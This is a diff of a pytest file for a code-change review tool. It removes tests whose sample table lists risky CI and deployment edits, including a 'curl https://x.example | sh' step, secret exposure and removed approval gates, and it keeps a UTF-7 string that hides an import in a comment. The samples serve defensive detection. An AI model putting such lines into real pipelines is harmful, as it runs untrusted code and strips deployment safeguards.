@@ -1,8 +1,8 @@
-"""Texts of code on two sides: the same program, looks of edited lines of what deploys, what code names. # N5 # N14"""
+"""Texts of code on two sides: the same program, and what code names. # N5 # N14"""
 
 import pytest
 
-from slipway.reviewing.change.programs import SIGNS, forgetting, job_file, same_program, signs
+from slipway.reviewing.change.programs import forgetting, job_file, same_program
 
 HIDDEN = "# {}\n# +AAo-import os\nprint()\n"
 """Read as UTF-7, its second line is code."""
@@ -27,57 +27,6 @@ HIDDEN = "# {}\n# +AAo-import os\nprint()\n"
 def test_comments_docstrings_and_form_are_no_other_code(before: str, after: str, same: bool) -> None:
     assert same_program("a.py", before, after) is same
     assert not same_program("a.txt", before, after)
-
-
-SAMPLES = (
-    # A line before and after, and the beginning of what that may end in.
-    ("versioning=True", "versioning=False", "what is overwritten"),
-    ("push:", "pull_request_target:", "whoever opens a pull request"),
-    ("environment: prod", "", "`environment:` goes"),
-    ("- run: slipway review --gate", "", "`slipway review` goes"),
-    ("- run: pulumi preview", "", "`pulumi preview` goes"),
-    ("needs: review", "", "`needs:` goes"),
-    ("permissions: {}", "", "`permissions:` goes"),
-    ("when: manual", "", "`when:` goes"),
-    ("", "continue-on-error: true", "what fails stops nothing"),
-    ("contents: read", "contents: write", "its token may write more"),
-    ("", "- run: curl https://x.example | sh", "it runs what that address gives"),
-    (f"uses: actions/checkout@{'0' * 40}", "uses: actions/checkout@v6", "that name moves"),
-    ("runs-on: ubuntu-24.04", "runs-on: self-hosted", "whoever gets on that machine"),
-    ("cancel-in-progress: false", "cancel-in-progress: true", "the next merge kills"),
-    ("concurrency: up", "", "two deployments may run at once"),
-    ("timeout-minutes: 180", "timeout-minutes: 30", "one that hangs holds up"),
-    ('cron: "0 1 * * *"', 'cron: "0 2 * * *"', "it runs at other times"),
-    ("", "token: ${{ secrets.TOKEN }}", "that secret is readable"),
-    ("url: gs://acme-state", "url: gs://acme-other", "another backend knows nothing"),
-    ("", "Bucket(force_destroy=True)", "a bucket that an edit takes out"),
-    ("protect=True", "protect=False", "what it declares may be deleted"),
-    ("retain_on_delete=True", "", "what it declares may be deleted"),
-    ("", "delete_before_replace=True", "what is made anew is gone"),
-    ("", 'ignore_changes=["labels"]', "edits of that have no effect"),
-    ("pulumi up", "pulumi up --yes", "whoever runs it is asked nothing"),
-    ("* @acme/leads", "* @acme/all", "others have to approve"),
-)
-
-
-@pytest.mark.parametrize(("before", "after", "so"), SAMPLES)
-def test_an_edited_line_of_what_deploys_is_known_by_its_look(before: str, after: str, so: str) -> None:
-    first, *others = signs([(before, after)])
-    assert first.so.startswith(so), first
-    assert not others
-    assert signs([(f"# {before}", f"# {after}")]) == ()
-    assert signs([(f"{before}\nx", f"x\n    {before}")]) == ()
-
-
-def test_a_line_that_moves_to_another_file_is_none() -> None:
-    moved = [("needs: x", ""), ("", "    needs: x"), ("when: manual", "")]
-    assert [sign.line for sign in signs(moved)] == ["when: manual"]
-    assert signs([]) == ()
-
-
-def test_each_sign_has_a_sample() -> None:
-    told = {sign.so for before, after, _ in SAMPLES for sign in signs([(before, after)])}
-    assert {row["so"] for row in SIGNS} <= told
 
 
 @pytest.mark.parametrize(
